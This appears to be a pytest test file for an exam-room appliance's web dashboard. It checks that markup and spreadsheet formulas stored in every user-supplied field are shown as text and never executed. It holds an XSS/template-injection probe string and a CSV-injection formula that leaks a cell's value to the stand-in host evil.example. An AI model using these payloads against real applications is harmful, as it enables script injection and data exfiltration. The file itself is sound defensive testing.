"""Markup and formulas in every string a person, a camera or a neighbour can give: shown as text on every page."""

from __future__ import annotations

import csv
import io
import json
import threading
from dataclasses import dataclass
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest
from werkzeug.serving import make_server

from appliance import auditlog
from appliance.auditlog.actions import ACTIONS
from appliance.cameras.events import record_event
from appliance.cameras.model import Camera
from appliance.cameras.store import add_camera
from appliance.clock import SystemClock
from appliance.config import BoxSettings, PathSettings, Settings
from appliance.database import open_box_database, write
from appliance.exams.records import Warning as Flag
from appliance.sittings.warnings import note_warning
from appliance.usb.cleaning import clean
from appliance.usb.devices_rows import Present, keep_present
from appliance.usb.events import UsbEvent, note_event
from appliance.usb.model import Decision, Device, Interface
from appliance.usb.orders import let_in
from appliance.usb.policies import default_text, keep_policy
from appliance.usb.ports import name_port
from appliance.usb.seen import confirm, propose
from appliance.vault.holds import place_hold
from appliance.vault.keys import add_recipient, init_keys
from appliance.vault.recipients import make_recipient
from appliance.web.account import passwords, sessions
from appliance.web.account.accounts import create_account
from appliance.web.app import create_app
from appliance.web.asking import speech_of
from appliance.web.lan.announcement import SERVICE, neighbour
from appliance.web.review import bookmarks
from appliance.web.services import of
from tests.journeys.crawl import pages
from tests.support.browsers import chromium
from tests.vault.recorded import WALL_US, Recorder, clock_at, movie
from tests.web.conftest import StandInCapture, StandInKeyring
from tests.web.review.a_review import Reviewed

if TYPE_CHECKING:
    from collections.abc import Iterator

    from flask import Flask
    from playwright.sync_api import Page
    from sqlite_utils import Database

    from appliance.clock import Clock

pytestmark = [pytest.mark.browser, pytest.mark.timeout(400)]

MARK = """'"><img src=x onerror=pwned=1><script>pwned=1</script>{{7*7}}"""
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
ROLES = ("administrator", "reviewer", "auditor", "invigilator")

# Every text column of the database that holds what somebody typed or sent, filled with markup past all checks.
GIVEN = {
    "camera": ("name", "purpose", "lawful_basis", "retention_reason"),
    "recording_wish": ("wished_by", "stopped_by"),
    "camera_event": ("detail",),
    "legal_hold": ("reason", "placed_by", "released_by", "release_reason"),
    "account": ("name", "email"),
    "web_session": ("address", "browser"),
    "log_personal": ("value",),
    "part_deletion": ("rule", "applied_by"),
    "bookmark": ("note",),
    "exam": ("account", "exam_id", "name"),
    "candidate": ("user_id", "number", "last_name", "first_name", "third_name", "email", "accommodations"),
    "sitting": ("room", "name", "created_by"),
    "roster_entry": ("seat",),
    "seat": ("label",),
    "session": ("account",),
    "session_ticket": ("address",),
    "warning": ("seat", "model"),
    "incident": ("seat", "who", "note", "withdrawn"),
    "delivery": ("reason",),
    "delivery_attempt": ("body", "error"),
    "delivery_target": ("reason",),
    "centre": ("name", "room", "enrolled_by"),
    "centre_waiting": ("reason", "decided_by", "decided_why"),
    "centre_media": ("why", "reason"),
    "centre_stick": ("who",),
    "hub": ("centre",),
    "hub_code": ("room", "made_by", "used_by"),
    "hub_box": ("room", "name", "revoked_by", "revoked_why"),
    "hub_assignment": ("made_by",),
    "hub_item": ("note",),
    "hub_media": ("why", "made_by"),
    "usb_policy": ("made_by", "why"),
    "usb_order": ("made_by", "why", "ended_by"),
    "usb_device": ("problem",),
    "usb_event": ("why", "seat"),
    "usb_port": ("label", "seat", "changed_by"),
    "usb_seen": ("confirmed_by",),
    "seat_agent_code": ("seat", "made_by"),
    "seat_agent": ("name", "seat", "enrolled_by"),
}
# Tables without a number of their own for each row.
UNNUMBERED = frozenset(
    {"roster_entry", "seat", "session_ticket", "delivery_attempt", "delivery_target", "centre_waiting", "centre_stick",
     "hub_assignment", "hub_box", "hub_item", "hub_media", "hub_code", "hub", "centre", "centre_media",
     "seat_agent_code"}
)  # fmt: skip
# Structured values: their texts are put in before they are stored, or come from the columns above.
JSON = {
    "exam": ("parameters", "choices"),
    "sitting": ("timing",),
    "sitting_exam": ("definition",),
    "roster_entry": ("planned",),
    "seat": ("cameras",),
    "sitting_event": ("body",),
    "session": ("wire", "parameters"),
    "warning": ("detail", "judgements", "subject"),
    "incident": ("evidence",),
    "review_event": ("body",),
    "delivery": ("body",),
    "centre_waiting": ("change",),
    "centre_stick": ("result",),
    "hub_box": ("report",),
    "hub_feed": ("body",),
    "hub_item": ("body",),
    "hub_sitting": ("register",),
    "hub_extra_time": ("body",),
    "usb_policy": ("text",),
    "usb_order": ("subject",),
    "usb_state": ("body",),
    "usb_device": ("device", "decision"),
    "usb_event": ("device",),
    "usb_seen": ("device",),
    "usb_signed_policy": ("body",),
    "seat_agent": ("state",),
    "seat_event": ("body",),
}
# Those whose values the box itself chooses from a list, makes, or checks against `[a-z0-9-]` before it takes them.
MADE = {
    "_sqlite_migrations": ("migration_set", "name", "applied_at"),
    "setting": ("key", "value"),
    "camera": ("id", "role", "kind", "address", "masks"),
    "recording_wish": ("sitting",),
    "camera_event": ("camera", "state", "reason"),
    "part": ("part_id", "sitting", "camera", "state"),
    "legal_hold": ("sitting", "camera"),
    "account": ("role", "password_hash"),
    "one_time_password": ("purpose", "password_hash"),
    "sign_in_failure": ("key",),
    "log_personal": ("field",),
    "part_deletion": ("part_id", "sitting", "camera", "file_state", "chain", "checkpoint_sha256"),
    "recovery_code": ("selector", "code_hash"),
    "password_reset": ("kind", "secret_hash"),
    "bookmark": ("sitting", "camera"),
    "integration": (
        "id", "name", "origin", "review_url", "schedule_url", "warning_url", "agreement_acceptance_url",
    ),
    "integration_secret": ("integration",),
    "seen_token": ("integration",),
    "exam": ("id", "integration", "origin"),
    "candidate": ("id", "integration", "language"),
    "sitting": ("id", "opening", "origin", "status"),
    "sitting_exam": ("sitting", "exam"),
    "roster_entry": ("sitting", "candidate", "exam"),
    "seat": ("sitting",),
    "sitting_event": ("sitting", "name", "candidate"),
    "session": (
        "id", "integration", "session_id", "exam", "candidate", "sitting", "session_url", "finish_url",
        "agreed_notice", "status",
    ),
    "session_ticket": ("session",),
    "warning": ("id", "sitting", "session", "kind", "camera"),
    "incident": ("id", "sitting", "session", "category", "severity", "corrects"),
    "review": ("session", "status"),
    "review_event": ("session", "name"),
    "epoch": ("name", "reason"),
    "delivery": ("epoch", "target", "stream", "kind", "state"),
    "delivery_target": ("target",),
    "centre": ("hub", "address", "ca", "key_print", "cursor"),
    "centre_thing": ("hub", "kind", "id", "local", "digest"),
    "centre_waiting": ("hub", "kind", "id", "digest", "sitting", "state"),
    "centre_media": ("id", "hub", "sitting", "camera", "session", "state"),
    "centre_stick": ("number", "way", "hub"),
    "hub": ("id",),
    "hub_code": ("address",),
    "hub_box": ("id", "address", "told_address"),
    "hub_epoch": ("box", "epoch", "machine", "said"),
    "hub_assignment": ("kind", "id", "box"),
    "hub_feed": ("box", "kind", "id", "sitting", "signature"),
    "hub_version": ("kind", "id"),
    "hub_dirty": ("kind", "id"),
    "hub_item": ("box", "epoch", "kind", "stream", "sha256"),
    "hub_session": ("integration", "session_id", "box", "status", "conclusion", "tell_epoch", "finish_by"),
    "hub_sitting": ("sitting", "box", "status"),
    "hub_media": ("id", "box", "sitting", "camera", "session"),
    "hub_segment": ("media", "sha256"),
    "hub_extra_time": ("id", "sitting"),
    "usb_order": ("kind",),
    "usb_device": ("port", "state"),
    "usb_event": ("kind", "port", "hash", "mode", "verdict", "rule", "sitting"),
    "usb_port": ("port",),
    "usb_seen": ("hash",),
    "seat_agent": ("id",),
    "seat_event": ("agent", "epoch", "kind"),
    "booking_offer": ("sitting",),
    "booking": ("sitting", "candidate"),
}  # fmt: skip
FOUND = """() => ({
  ran: globalThis.pwned ?? null,
  made: [...document.querySelectorAll(
    'img[src="x"], [onerror], [onload], script:not([src]):not([type="application/json"])')]
    .map((element) => element.outerHTML.slice(0, 200)),
  links: [...document.querySelectorAll('[href], [src], [action]')]
    .flatMap((element) => [element.getAttribute('href'), element.getAttribute('src'), element.getAttribute('action')])
    .filter((address) => /^\\s*(javascript|data|vbscript):/i.test(address ?? '')),
  evaluated: document.body.innerText.includes('</script>49'),
  shown: document.body.innerText.includes('onerror=pwned=1'),
})"""


class Telling(StandInCapture):
    """A capture process whose camera tells markup wherever it can tell a text."""

    def status(self) -> dict[str, Any]:
        """Say it all."""
        texts = dict.fromkeys(("reason", "message", "hint", "alarm", "codecs", "name", "sitting"), MARK)
        camera = {**texts, "camera": "front", "role": "room", "state": "lost", "recording": True, "since_us": WALL_US}
        return {
            "ok": True,
            "cameras": [camera],
            "disk": {"state": "stop", "stopped": True, "total": 100, "free": 1, "failures": [MARK], "message": MARK},
            "sitting": MARK,
            "clock": {"trusted": False, "message": MARK},
        }


@dataclass
class Box:
    """The dashboard, served, with markup in everything."""

    app: Flask
    db: Database
    address: str

    def enter(self, page: Page, role: str) -> None:
        """Give the browser a session of the person of a role."""
        account = self.db.conn.execute("SELECT id FROM account WHERE role = ?", (role,)).fetchone()[0]
        token = sessions.open_session(self.db, account, address=MARK, clock=SystemClock(), browser=MARK)
        cookie = {
            "name": "exambox_session",
            "value": token,
            "url": self.address,
            "httpOnly": True,
            "sameSite": "Strict",
        }
        page.context.add_cookies([cookie])  # type: ignore[list-item]  # Playwright's own typed dictionary


@pytest.fixture(scope="module")
def box(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
    """The box; hashing is real, nobody signs in with a password."""
    folder = tmp_path_factory.mktemp("marked")
    settings = Settings(
        box=BoxSettings(trial=True, room=MARK), paths=PathSettings(state=str(folder / "state"), run=str(folder / "run"))
    )
    db = open_box_database(settings.database)
    furnish(settings, db)
    app = create_app(settings, SystemClock(), live=Telling(), keyring=StandInKeyring())
    heard = neighbour(
        f"{MARK}.{SERVICE}", MARK, 8443, [MARK, "192.0.2.7"], {b"version": MARK.encode(), b"box": MARK.encode()}
    )
    app.extensions["exambox-announcer"] = SimpleNamespace(heard=lambda: [heard])
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield Box(app, db, f"http://127.0.0.1:{server.server_port}")
    of(app).stopping.set()
    server.shutdown()
    of(app).jobs.close()
    of(app).keeper.conn.close()
    db.conn.close()


def furnish(settings: Settings, db: Database) -> None:
    """Make one of everything, then put markup into all of it."""
    clock = SystemClock()
    init_keys(settings, passphrase=None, clock=clock)
    from appliance.vault.crypto import generate_private, public_of

    suite = settings.vault.suite
    public = public_of(suite, generate_private(suite))
    add_recipient(
        settings.keys_dir, make_recipient(suite=suite, public=public, label=MARK, role="auditor"), clock=clock
    )
    Recorder(settings.vault_dir, clock_at()).part(movie(1))
    for role in ROLES:
        create_account(db, role.title(), role, "Quiet-Room-42!", clock=clock, who="test", email=f"{role}@example.org")
    account = db.conn.execute("SELECT id FROM account WHERE role = 'reviewer'").fetchone()[0]
    add_camera(db, Camera(id="front", name="Front", role="room", kind="pattern", address="64x48@5",
                          retention_hours=100, retention_reason="x"), None, clock=clock, who="test")  # fmt: skip
    record_event(db, "front", "lost", "silent", "x", clock=clock)
    with write(db):
        db.conn.execute(
            "INSERT INTO part (part_id, sitting, camera, number, started_us, ended_us, state)"
            " VALUES ('a', 'exam', 'front', 1, ?, ?, 'closed')",
            (WALL_US, WALL_US + 1_000_000),
        )
    place_hold(db, "exam", None, reason="because", clock=clock, who="test")
    bookmarks.add_bookmark(db, "exam", bookmarks.Marking(WALL_US, None, None, "x"), account=account, clock=clock)
    reviewed = Reviewed(db, settings, examName=MARK, courseName=MARK, instructions=MARK, rules={"custom_rules": MARK})
    reviewed.delivered("parked")
    with write(db):
        db.conn.execute(
            "INSERT INTO delivery_attempt (delivery, number, at_us, took_us, status, body, error)"
            " SELECT id, 1, 5, 5, 500, 'x', 'x' FROM delivery"
        )
    plug_in(db, clock)
    for action in ACTIONS:
        detail = dict.fromkeys(("sitting", "camera", "reason", "name", "role", "count", "label", "from", "to"), MARK)
        for text in (MARK, FORMULA):
            auditlog.append(db, action, clock=clock, who=text, where=text, detail=detail, personal={"account": text})
    fill(db)


def plug_in(db: Database, clock: Clock) -> None:
    """Have a device with markup for words at a named port, ordered about, warned of, and at a workstation."""
    words = clean(MARK)
    device = Device(
        port="1-1", vendor=1, product=2, name=words, manufacturer=words, serial=words, hash="h",
        interfaces=(Interface(8, 6, 0x50),),
    )  # fmt: skip
    now = clock.wall_us()
    block = Decision(verdict="block", rule="storage", why=f"Rule “storage” blocks it: {words}.")
    with write(db):
        keep_present(db, Present(device=device, decision=block, state="out", problem="x", since_us=now, looked_us=now))
        note_event(
            db, UsbEvent(at_us=now, kind="plugged", port="1-1", last_us=now, mode="armed", verdict="block", why="x",
                         rule="storage", device=device, seat="x"),
        )  # fmt: skip
        db.conn.execute(
            "INSERT INTO seat_agent (id, name, seat, public_key, enrolled_us, enrolled_by, expires_us)"
            " VALUES ('seat-0', 'x', 'x', x'00', ?, 'x', ?)",
            (now, now + 10**12),
        )
        db.conn.execute("INSERT INTO seat_agent_code VALUES (x'00', 'x', ?, 'x', ?, NULL, NULL)", (now, now + 10**12))
    keep_policy(db, default_text() + "\n", clock=clock, who="x", why="x")
    name_port(db, "1-1", label="x", seat="x", who="x", clock=clock)
    propose(db, [device], clock=clock)
    confirm(db, ["h"], who="x", clock=clock)
    let_in(db, device, words=words, who="x", why="x", clock=clock)
    flag = Flag(id="w-usb", session="", kind="forbidden_device", start_us=now, end_us=now)
    subject = {"what": words, "name": words, "port": words, "verdict": words, "hash": "h"}
    note_warning(db, flag, clock=clock, seat="x", subject=subject)


def fill(db: Database) -> None:
    """Put markup into every given column, past every check; where names must differ, they end differently."""
    with write(db):
        for table, columns in GIVEN.items():
            for column in columns:
                kept = " AND value NOT LIKE '=%'" if table == "log_personal" else ""
                end = column if table in UNNUMBERED else "rowid"
                db.conn.execute(
                    f"UPDATE {table} SET {column} = ? || {end} WHERE {column} IS NOT NULL{kept}",  # noqa: S608  names of ours
                    (MARK,),
                )


def test_every_text_column_is_given_or_made(box: Box) -> None:
    """A new text column is put into one of the lists, so that what people type is tried here."""
    known = {(table, column) for columns in (GIVEN, JSON, MADE) for table, names in columns.items() for column in names}
    found = {
        (table.name, column.name)
        for table in box.db.tables
        for column in table.columns
        if column.type.upper() == "TEXT"
    }
    assert found == known


@pytest.mark.parametrize("role", ROLES)
def test_no_page_takes_text_for_markup(box: Box, role: str) -> None:
    """Walk every page as each role: no script runs, no element is made, no link is one that runs; the text is shown."""
    shown: list[str] = []
    starts = ("/", "/recordings/exam", "/admin/users/1", "/admin/users/2", "/certificate", "/forgotten")
    with chromium() as page:  # a breach of the policy fails it
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        box.enter(page, role)
        for endpoint, path in pages(page, box.address, box.app.url_map, starts=starts):
            page.wait_for_function("() => !document.querySelector('main [aria-busy=true]')", timeout=15_000)
            found = page.evaluate(FOUND)
            shown += [endpoint] if found.pop("shown") else []
            assert found == {"ran": None, "made": [], "links": [], "evaluated": False}, path
        assert dialogs == []
    assert len(shown) >= {"administrator": 10, "invigilator": 2}.get(role, 3), shown


def test_tables_taken_away_hold_no_formula_and_json_no_markup(box: Box) -> None:
    """No cell of a CSV file begins like a formula; JSON is JSON, whatever it carries."""
    client = box.app.test_client()
    account = box.db.conn.execute("SELECT id FROM account WHERE role = 'administrator'").fetchone()[0]
    client.set_cookie("exambox_session", sessions.open_session(box.db, account, address="x", clock=SystemClock()))
    kinds = {
        rule.rule: (speech.answer if isinstance(speech.answer, str) else "application/json")
        for rule in box.app.url_map.iter_rules()
        if (speech := speech_of(box.app.view_functions[rule.endpoint])) and "GET" in (rule.methods or ())
    }
    tables = [path for path, kind in kinds.items() if kind == "text/csv" and "<" not in path]
    assert len(tables) >= 2
    formulas = 0
    for path in tables:
        answer = client.get(path)
        assert answer.status_code == 200, path
        assert answer.headers["Content-Disposition"].startswith("attachment")
        for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"))):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
            formulas += sum("HYPERLINK" in cell for cell in row)
    assert formulas, "there was something to make harmless"
    for path, kind in kinds.items():
        if kind == "application/json" and "<" not in path:
            answer = client.get(path, headers={"Accept": "application/json"})
            assert answer.content_type.startswith(("application/json", "application/problem+json")), path
            json.loads(answer.text)


@pytest.fixture(autouse=True)
def _cheap_hashing() -> None:
    """Accounts are made once, for the module: hashing stays as it is."""
    assert passwords.MIN_LENGTH
